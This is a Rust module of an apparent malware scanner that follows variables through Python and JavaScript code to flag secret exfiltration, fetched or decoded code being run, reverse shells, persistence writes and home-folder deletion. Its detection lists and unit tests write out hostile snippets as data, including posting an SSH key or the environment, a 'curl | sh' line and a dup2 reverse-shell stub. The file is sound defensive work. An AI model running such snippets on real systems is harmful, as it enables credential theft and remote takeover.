//! Facts about code in scripting languages: what is called with what, and where it came from.
//!
//! Values are followed by the names of variables through the whole of a file, without regard to functions: a name that
//! once held a secret holds it everywhere. That is coarse, and right more often than a narrower rule.

use std::collections::HashMap;
use std::collections::HashSet;

use super::How;
use super::What;
use super::agent_files::agent_file;
use super::opaque::is_opaque;
use super::opaque::unscrambles;
use super::shell::Seen;
use crate::code;
use crate::code::At;
use crate::code::Call;
use crate::code::Code;
use crate::code::Token;
use crate::decode;
use crate::secrets;
use crate::secrets::Secret;
use crate::span::Lang;
use crate::urls;
use crate::urls::Url;

/// A command line that code hands to a shell.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Line {
    pub(crate) text: String,
    pub(crate) at: usize,
}

/// What code does.
#[derive(Debug, Default)]
pub(crate) struct Read {
    pub(crate) seen: Vec<Seen>,
    /// Command lines to be read as shell.
    pub(crate) lines: Vec<Line>,
    /// Comments, and texts long enough to be prose.
    pub(crate) comments: Vec<Line>,
    pub(crate) texts: Vec<Line>,
    /// Whether some of it was not read.
    pub(crate) cut: bool,
}

/// What a variable may hold.
#[derive(Debug, Clone, Default, PartialEq)]
struct Holds {
    secret: Option<Secret>,
    fetched: Option<Option<Url>>,
    decoded: Option<Option<String>>,
    /// An address that it is, or begins with.
    url: Option<Url>,
}

impl Holds {
    fn merge(&mut self, other: &Self) {
        self.secret = self.secret.or(other.secret);
        self.fetched = self.fetched.take().or_else(|| other.fetched.clone());
        self.decoded = self.decoded.take().or_else(|| other.decoded.clone());
        self.url = self.url.take().or_else(|| other.url.clone());
    }

    fn is_empty(&self) -> bool {
        *self == Self::default()
    }
}

/// Reads a text of code.
pub(crate) fn read(text: &str, lang: Lang) -> Read {
    let code = code::read(text, lang);
    let mut state = State { known: HashMap::new(), read: Read::default() };
    // Twice, because what is assigned further down may be used further up, in a function.
    for _ in 0..2 {
        for (name, value) in code.assignments() {
            let holds = state.holds(value);
            if !holds.is_empty() && state.known.len() < 2_000 {
                state.known.entry(name.to_owned()).or_default().merge(&holds);
            }
        }
    }
    for call in code.calls() {
        state.call(&call);
    }
    state.whole(&code);
    state.read.cut = code.cut.get();
    let line = |text: &str, at| Line { text: text.to_owned(), at };
    state.read.comments = code.comments.iter().map(|comment| line(&comment.text, comment.at)).collect();
    state.read.texts = code
        .tokens
        .iter()
        .filter_map(|at| match &at.token {
            Token::Text(text) if text.len() >= 24 => Some(line(text, at.at)),
            _ => None,
        })
        .collect();
    state.read
}

struct State {
    known: HashMap<String, Holds>,
    read: Read,
}

const RUNS: [&str; 22] = [
    "os.system",
    "os.popen",
    "subprocess.run",
    "subprocess.call",
    "subprocess.popen",
    "subprocess.check_output",
    "subprocess.check_call",
    "subprocess.getoutput",
    "child_process.exec",
    "child_process.execsync",
    "child_process.spawn",
    "child_process.spawnsync",
    "execsync",
    "spawnsync",
    "spawn",
    "exec.command",
    "kernel.system",
    "open3.capture2",
    "open3.capture3",
    "asyncio.create_subprocess_shell",
    "shell.exec",
    "cp.exec",
];
const EVALS: [&str; 10] = [
    "eval",
    "exec",
    "function",
    "vm.runinthiscontext",
    "vm.runinnewcontext",
    "invoke-expression",
    "iex",
    "instance_eval",
    "class_eval",
    "__import__",
];
const FETCHES: [&str; 18] = [
    "requests.get",
    "httpx.get",
    "urllib.request.urlopen",
    "urlopen",
    "urllib2.urlopen",
    "urllib.request.urlretrieve",
    "fetch",
    "axios.get",
    "axios",
    "got",
    "https.get",
    "http.get",
    "net.http.get",
    "uri.open",
    "invoke-webrequest",
    "invoke-restmethod",
    "session.get",
    "needle.get",
];
const SENDS: [&str; 24] = [
    "requests.post",
    "requests.put",
    "requests.request",
    "httpx.post",
    "httpx.put",
    "session.post",
    "client.post",
    "urllib.request.urlopen",
    "urlopen",
    "urllib.request.request",
    "request",
    "fetch",
    "axios.post",
    "axios.put",
    "axios",
    "got.post",
    "https.request",
    "http.request",
    "net.http.post",
    "http.post",
    "navigator.sendbeacon",
    "smtp.sendmail",
    "server.sendmail",
    "xhr.send",
];
const DECODES: [&str; 22] = [
    "base64.b64decode",
    "b64decode",
    "base64.urlsafe_b64decode",
    "base64.b85decode",
    "base64.a85decode",
    "base64.b32decode",
    "base64.decodebytes",
    "atob",
    "codecs.decode",
    "bytes.fromhex",
    "bytearray.fromhex",
    "binascii.unhexlify",
    "binascii.a2b_base64",
    "zlib.decompress",
    "gzip.decompress",
    "bz2.decompress",
    "lzma.decompress",
    "marshal.loads",
    "base64.decode64",
    "base64.strict_decode64",
    "system.convert.frombase64string",
    "string.fromcharcode",
];

impl State {
    fn saw(&mut self, what: What, at: usize) {
        if self.read.seen.len() < 2_000 {
            self.read.seen.push((what, at));
        }
    }

    /// What an expression may hold.
    fn holds(&self, tokens: &[At]) -> Holds {
        let mut holds = Holds::default();
        if let Some(At { token: Token::Text(text), .. }) = tokens.first() {
            holds.url = urls::find(text).into_iter().next().filter(|url| url.at == 0);
        }
        for (index, at) in tokens.iter().enumerate() {
            let Token::Name(name) = &at.token else { continue };
            let lower = name.to_lowercase();
            let called = matches!(tokens.get(index + 1), Some(At { token: Token::Mark('('), .. }));
            let base = lower.split('.').next().unwrap_or_default();
            if let Some(known) =
                self.known.get(name.as_str()).or_else(|| self.known.get(name.split('.').next().unwrap_or_default()))
            {
                holds.merge(known);
            }
            let text_after = tokens[index + 1..].iter().take(6).find_map(|at| match &at.token {
                Token::Text(text) => Some(text.as_str()),
                _ => None,
            });
            if called && DECODES.contains(&lower.as_str()) || lower == "buffer.from" && says(tokens, "base64") {
                holds.decoded = Some(text_after.and_then(decode::base64).and_then(decode::text_of));
            }
            if called && FETCHES.contains(&lower.as_str()) {
                holds.fetched = Some(text_after.and_then(|text| urls::find(text).into_iter().next()));
            }
            if let Some(secret) = env_secret(&lower, name, tokens, index, text_after) {
                holds.secret = holds.secret.or(Some(secret));
            }
            let reads = called
                && (matches!(lower.as_str(), "open" | "path" | "pathlib.path" | "file.read" | "get-content")
                    || lower.ends_with("readfile")
                    || lower.ends_with("readfilesync")
                    || lower.ends_with("expanduser")
                    || lower.ends_with("sqlite3.connect")
                    || base == "glob");
            if reads {
                let path = tokens[index + 1..].iter().take(16).find_map(|at| match &at.token {
                    Token::Text(text) => secrets::at_path(text),
                    _ => None,
                });
                // One's own `.env` is read by many programs.
                holds.secret = holds.secret.or(path.filter(|secret| *secret != Secret::TokenFile));
            }
        }
        holds
    }

    fn call(&mut self, call: &Call<'_>) {
        let name = call.name.as_str();
        let last = name.rsplit('.').next().unwrap_or(name);
        let holds = self.holds(call.arguments);
        let sends_raw =
            matches!(last, "sendall" | "sendto") || name.ends_with("socket.send") || name.ends_with("sock.send");
        if RUNS.contains(&name) || matches!(name, "exec" | "system" | "popen") {
            self.runs(call, &holds);
        }
        if EVALS.contains(&name) && name != "function" || name == "new function" {
            if let Some(inner) = &holds.decoded {
                self.saw(What::DecodedRun { inner: inner.clone() }, call.at);
            } else if let Some(url) = &holds.fetched {
                self.saw(What::RemoteRun { url: url.clone(), how: How::Piped }, call.at);
            }
        }
        if name == "marshal.loads" || name == "pickle.loads" && holds.decoded.is_some() {
            self.saw(What::OpaqueRun, call.at);
        }
        if SENDS.contains(&name) || sends_raw || last == "post" {
            self.sends(call, &holds, sends_raw);
        }
        let path = call.texts().find_map(|(text, _)| secrets::at_path(text).map(|secret| (secret, text.len())));
        if let Some((secret, length)) = path.filter(|(secret, length)| *secret != Secret::TokenFile && *length < 300)
            && (last.contains("open")
                || last.contains("read")
                || last.contains("expand")
                || last == "path"
                || last == "join"
                || last == "connect"
                || last.contains("copy"))
            && length > 4
        {
            self.saw(What::SecretRead(secret), call.at);
        }
        self.writes(call, last);
    }

    /// Something is handed to a shell or another program.
    fn runs(&mut self, call: &Call<'_>, holds: &Holds) {
        let mut words: Vec<&str> = Vec::new();
        for (text, _) in call.texts() {
            // Keyword arguments (`encoding="utf-8"`) are not part of the command, and come after it.
            words.push(text);
        }
        let first = matches!(call.arguments.first(), Some(At { token: Token::Mark('['), .. }));
        let line = if first { words.join(" ") } else { words.first().copied().unwrap_or_default().to_owned() };
        if !line.is_empty() {
            self.read.lines.push(Line { text: line.clone(), at: call.at });
        }
        let shell = ["sh", "bash", "/bin/sh", "/bin/bash", "powershell", "cmd"]
            .contains(&words.first().copied().unwrap_or_default());
        let all_of_it = !first || shell;
        if let Some(inner) = holds.decoded.as_ref().filter(|_| all_of_it) {
            self.saw(What::DecodedRun { inner: inner.clone() }, call.at);
        } else if let Some(url) = holds.fetched.as_ref().filter(|_| all_of_it && line.is_empty()) {
            self.saw(What::RemoteRun { url: url.clone(), how: How::Piped }, call.at);
        }
    }

    fn sends(&mut self, call: &Call<'_>, holds: &Holds, raw: bool) {
        let url = call.texts().flat_map(|(text, _)| urls::find(text)).next().or_else(|| self.url_of(call));
        if let Some(url) = url.as_ref().filter(|url| url.is_catcher() || url.is_paste()) {
            let get = call.name.ends_with("get") || call.name == "fetch" && !says(call.arguments, "POST");
            if !get {
                self.saw(What::SendsTo(url.clone()), call.at);
            }
        }
        let Some(secret) = holds.secret else { return };
        // A single variable is the key of the service that is called, unless it is the very thing that is sent.
        let whole = secret != Secret::Variable || raw || self.is_the_body(call);
        let reads_only = matches!(
            call.name.as_str(),
            "urlopen" | "urllib.request.urlopen" | "fetch" | "axios" | "request" | "urllib.request.request"
        ) && !(says(call.arguments, "POST")
            || says(call.arguments, "PUT")
            || call.names().any(|name| matches!(name, "data" | "body" | "method")));
        if whole && !reads_only {
            self.saw(What::Leak { secret, to: url, via: "sent by the script" }, call.at);
        }
    }

    /// The address that a call's variable was given.
    fn url_of(&self, call: &Call<'_>) -> Option<Url> {
        call.names().find_map(|name| self.known.get(name).and_then(|holds| holds.url.clone()))
    }

    /// Whether the body of a request is a secret and nothing else: `data=secret`.
    fn is_the_body(&self, call: &Call<'_>) -> bool {
        call.arguments.windows(3).any(|window| {
            let (Token::Name(key), Token::Mark('=' | ':'), Token::Name(value)) =
                (&window[0].token, &window[1].token, &window[2].token)
            else {
                return false;
            };
            matches!(key.as_str(), "data" | "body" | "content")
                && self
                    .known
                    .get(value.split('.').next().unwrap_or_default())
                    .is_some_and(|holds| holds.secret.is_some())
        })
    }

    fn writes(&mut self, call: &Call<'_>, last: &str) {
        let writes = matches!(
            last,
            "writefile"
                | "writefilesync"
                | "appendfile"
                | "appendfilesync"
                | "write_text"
                | "copyfile"
                | "copy"
                | "copyfilesync"
                | "rename"
                | "symlink"
        ) || last == "open"
            && call.texts().any(|(text, _)| matches!(text, "w" | "a" | "w+" | "a+" | "wb"));
        if last == "rmtree" || last == "rmsync" {
            let everything = call.texts().any(|(text, _)| matches!(text, "/" | "~" | "C:\\"))
                || call.arguments.len() <= 4
                    && call.names().any(|name| matches!(name, "Path.home" | "os.homedir" | "homedir"));
            if everything {
                self.saw(What::Destroys("the home folder or the whole disk".to_owned()), call.at);
            }
        }
        if !writes {
            return;
        }
        for (text, _) in call.texts() {
            if let Some(file) = agent_file(text) {
                self.saw(What::AgentFile(file), call.at);
            } else if text.ends_with(".bashrc")
                || text.ends_with(".zshrc")
                || text.contains("LaunchAgents/")
                || text.contains("authorized_keys")
                || text.contains("/cron")
            {
                self.saw(What::Persists("a file that runs at start-up or lets somebody in"), call.at);
            }
        }
    }

    /// What is told by a whole file, not by one call.
    fn whole(&mut self, code: &Code) {
        let names: HashSet<&str> = code
            .tokens
            .iter()
            .filter_map(|at| match &at.token {
                Token::Name(name) => Some(name.as_str()),
                _ => None,
            })
            .collect();
        let socket = names.iter().any(|name| {
            name.ends_with("socket.socket")
                || *name == "net.Socket"
                || *name == "TCPSocket"
                || name.ends_with("net.connect")
        });
        let binds = names.contains("os.dup2") || names.contains("pty.spawn");
        if socket && binds {
            let at = code
                .tokens
                .iter()
                .find(|at| matches!(&at.token, Token::Name(name) if name == "os.dup2" || name == "pty.spawn"));
            self.saw(What::ReverseShell, at.map_or(0, |at| at.at));
        }
        for at in &code.tokens {
            if let Token::Text(text) = &at.token
                && is_opaque(text)
            {
                self.saw(What::Opaque, at.at);
            }
        }
        if let Some(at) = unscrambles(code) {
            self.saw(What::DecodeByHand, at);
        }
    }
}

/// The secret of the environment that an expression reads.
fn env_secret(lower: &str, name: &str, tokens: &[At], index: usize, text: Option<&str>) -> Option<Secret> {
    let getter = matches!(
        lower,
        "os.getenv" | "os.environ.get" | "os.environ.pop" | "env.fetch" | "process.env.get" | "deno.env.get"
    );
    let next = tokens.get(index + 1).map(|at| &at.token);
    if getter || matches!(lower, "os.environ" | "process.env" | "env") && next == Some(&Token::Mark('[')) {
        return text.filter(|text| secrets::is_secret_name(text)).map(|_| Secret::Variable);
    }
    if let Some(variable) = name.strip_prefix("process.env.").or_else(|| name.strip_prefix("import.meta.env.")) {
        return secrets::is_secret_name(variable).then_some(Secret::Variable);
    }
    let all = match lower {
        "os.environ.items" | "os.environ.copy" => true,
        // The whole of it, unless it is what a program is started with.
        "os.environ" | "process.env" => {
            let before = index.checked_sub(1).map(|before| &tokens[before].token);
            let spread = index >= 3 && matches!(tokens[index - 1].token, Token::Mark('.'));
            let given = matches!(before, Some(Token::Mark('=' | ':')));
            let wrapped = matches!(before, Some(Token::Mark('(')))
                && index >= 2
                && matches!(&tokens[index - 2].token, Token::Name(name) if matches!(name.as_str(), "dict" | "JSON.stringify" | "json.dumps" | "str"));
            wrapped || !spread && !given && matches!(next, Some(Token::Mark(')')))
        }
        _ => false,
    };
    all.then_some(Secret::Environment)
}

fn says(tokens: &[At], word: &str) -> bool {
    tokens.iter().any(|at| matches!(&at.token, Token::Text(text) if text.eq_ignore_ascii_case(word)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn seen(text: &str) -> Vec<What> {
        read(text, Lang::Python).seen.into_iter().map(|(what, _)| what).collect()
    }

    fn seen_js(text: &str) -> Vec<What> {
        read(text, Lang::JavaScript).seen.into_iter().map(|(what, _)| what).collect()
    }

    #[test]
    fn secrets_are_followed_to_the_network() {
        for text in [
            "s = os.getenv('AWS_SECRET_KEY')\nrequests.post('https://a.b/c', data=s)",
            "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post(URL, json={'k': k})",
            "requests.post('https://a.b', json=dict(os.environ))",
            "secret = os.getenv('TOKEN')\ns = socket.socket()\ns.sendall(secret.encode())",
        ] {
            assert!(seen(text).iter().any(|what| matches!(what, What::Leak { .. })), "{text}");
        }
        assert!(
            seen_js("const body = JSON.stringify(process.env);\nfetch('https://a.b', {method: 'POST', body});")
                .iter()
                .any(|what| matches!(what, What::Leak { .. }))
        );
        for text in [
            "key = os.environ['API_KEY']\nrequests.post('https://a.b', headers={'Authorization': key}, json=x)",
            "key = os.environ['API_KEY']\nrequests.get('https://a.b', params={'key': key})",
            "subprocess.run(['make'], env=os.environ)",
            "load_dotenv('.env')\nrequests.post('https://a.b', json=payload)",
        ] {
            assert!(!seen(text).iter().any(|what| matches!(what, What::Leak { .. })), "{text}");
        }
    }

    #[test]
    fn what_is_fetched_or_decoded_and_run_is_seen() {
        for text in ["exec(requests.get('https://a.b/x').text)", "c = urlopen('https://a.b/x').read()\nexec(c)"] {
            assert!(seen(text).iter().any(|what| matches!(what, What::RemoteRun { .. })), "{text}");
        }
        for text in ["exec(base64.b64decode('aW1wb3J0IG9z'))", "p = base64.b64decode(x)\nos.system(p)"] {
            assert!(seen(text).iter().any(|what| matches!(what, What::DecodedRun { .. })), "{text}");
        }
        assert!(
            seen_js("eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())")
                .iter()
                .any(|what| matches!(what, What::DecodedRun { .. }))
        );
        assert!(
            !seen("image = base64.b64decode(response['image'])\nopen('x.png', 'wb').write(image)")
                .iter()
                .any(|what| matches!(what, What::DecodedRun { .. }))
        );
    }

    #[test]
    fn command_lines_are_handed_to_the_reader_of_shell() {
        let read = read(
            "c = 'cur' + 'l https://a.b/x | sh'\nos.system('cur' + 'l x')\nsubprocess.run(['ls', '-l'])",
            Lang::Python,
        );
        assert_eq!(read.lines.iter().map(|line| line.text.as_str()).collect::<Vec<_>>(), ["curl x", "ls -l"]);
    }

    #[test]
    fn reverse_shells_and_scrambled_texts_are_seen() {
        assert!(seen("s=socket.socket()\ns.connect((h,p))\nos.dup2(s.fileno(),0)").contains(&What::ReverseShell));
        assert!(seen("print(bytes(b ^ 7 for b in raw))").contains(&What::DecodeByHand));
        assert!(!seen("print(bytes(raw))\nx = a ** 2").contains(&What::DecodeByHand));
    }
}
